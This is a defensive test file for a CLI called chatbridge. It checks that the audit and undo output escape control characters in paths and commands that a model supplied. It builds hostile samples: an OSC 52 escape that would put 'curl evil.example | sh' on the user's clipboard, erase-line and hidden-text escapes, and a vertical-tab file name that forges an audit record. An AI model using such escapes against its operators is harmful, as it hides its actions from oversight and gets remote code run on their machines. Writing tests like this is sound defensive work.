/**
 * Attack: the model writes to the person's terminal. `chatbridge audit` prints each call's paths and commands and
 * `chatbridge undo` a change's label and paths — text a model chose. A file named with an escape sequence would set
 * the terminal's clipboard (OSC 52: the next paste runs the model's command), hide or erase lines; a name with a
 * vertical tab would print a forged audit record (a line break or tab in a path is refused before the call runs).
 * Against the real companion process and the real CLI: every such character is printed as ⟨U+XXXX⟩, and each record
 * stays one line.
 */
import { spawn } from 'node:child_process';
import { existsSync, readdirSync, rmSync } from 'node:fs';
import { join, resolve } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ALL_AUTO, context, makeWorkspace, mcpRequestBlock, parseMcpResponse, postBlock, startCompanionProcess, type CompanionProcess, type Workspace } from '../load/live-companion';

const bin = join(resolve(__dirname, '../../..'), 'bin', 'chatbridge.js');
const ESC = '\u001B';
const BEL = '\u0007';
/** OSC 52: "set the clipboard to" base64 of `curl evil.example | sh` */
const CLIPBOARD = `${ESC}]52;c;${Buffer.from('curl evil.example | sh').toString('base64')}${BEL}`;
const FORGED = '2026-01-01T00:00:00.000Z audit-forged chatgpt fs.read decision=auto outcome=ok 1ms';
/** anything a terminal acts on, or a line break inside a record */
const CONTROL = /[\u0000-\u0008\u000B-\u001F\u007F-\u009F]/u;

function cli(home: string, args: string[]): Promise<{ code: number | null; stdout: string; stderr: string }> {
  return new Promise((done) => {
    const child = spawn(process.execPath, [bin, ...args], { env: { ...process.env, CHATBRIDGE_HOME: home, CHATBRIDGE_TOKEN: '' } });
    let stdout = '';
    let stderr = '';
    child.stdout.on('data', (d) => (stdout += String(d)));
    child.stderr.on('data', (d) => (stderr += String(d)));
    child.on('exit', (code) => done({ code, stdout, stderr }));
  });
}

describe('attack: escapes and line breaks a model chose, printed by the CLI (real companion, real CLI)', { timeout: 90_000 }, () => {
  let ws: Workspace;
  let companion: CompanionProcess;
  let n = 0;

  async function call(name: string, args: Record<string, unknown>): Promise<void> {
    n++;
    const run = await postBlock(companion, 'mcp-request', mcpRequestBlock(n, name, args), context('conv-term', `m${n}`));
    const response = parseMcpResponse(run.resultText);
    if (response.error || response.result?.isError) throw new Error(run.resultText);
  }

  beforeAll(async () => {
    ws = makeWorkspace('cb-term-');
    companion = await startCompanionProcess({ root: ws.root, home: ws.home, config: ALL_AUTO });
    await call('fs.write', { path: join(ws.root, `report${CLIPBOARD}${ESC}[2K.txt`), content: 'x', mode: 'overwrite' });
    await call('shell.exec', { command: `true # ${ESC}[8m hidden`, cwd: ws.root });
    await call('fs.write', { path: join(ws.root, `notes\u000b${FORGED}`), content: 'y', mode: 'overwrite' });
  }, 60_000);

  afterAll(async () => {
    await companion?.stop();
    rmSync(ws.base, { recursive: true, force: true });
  });

  it('the files exist under those names: the calls ran as asked', () => {
    expect(readdirSync(ws.root).sort()).toEqual([`notes\u000b${FORGED}`, `report${CLIPBOARD}${ESC}[2K.txt`]);
  });

  it('chatbridge audit prints no escape and no forged line; each character is shown where it stands', async () => {
    const audit = await cli(ws.home, ['audit', '--limit', '50']);
    expect(audit.code, audit.stderr).toBe(0);
    expect(audit.stdout).not.toMatch(CONTROL);
    const lines = audit.stdout.trimEnd().split('\n');
    expect(lines).toHaveLength(3);
    for (const line of lines) expect(line).toMatch(/^\d{4}-\d\d-\d\dT[\d:.]+Z audit-/);
    expect(audit.stdout).toContain('report⟨U+001B⟩]52;c;');
    expect(audit.stdout).toContain('⟨U+0007⟩⟨U+001B⟩[2K.txt');
    expect(audit.stdout).toContain('true # ⟨U+001B⟩[8m hidden');
    expect(audit.stdout).toContain(`notes⟨U+000B⟩${FORGED}`);
  });

  it('chatbridge undo names the change on one line without escapes, and undoes it', async () => {
    const undo = await cli(ws.home, ['undo']);
    expect(undo.code, undo.stderr).toBe(0);
    expect(undo.stdout).not.toMatch(CONTROL);
    expect(undo.stdout.trimEnd().split('\n')).toHaveLength(1);
    expect(undo.stdout).toContain(`notes⟨U+000B⟩${FORGED}`);
    expect(existsSync(join(ws.root, `notes\u000b${FORGED}`))).toBe(false);
  });
});
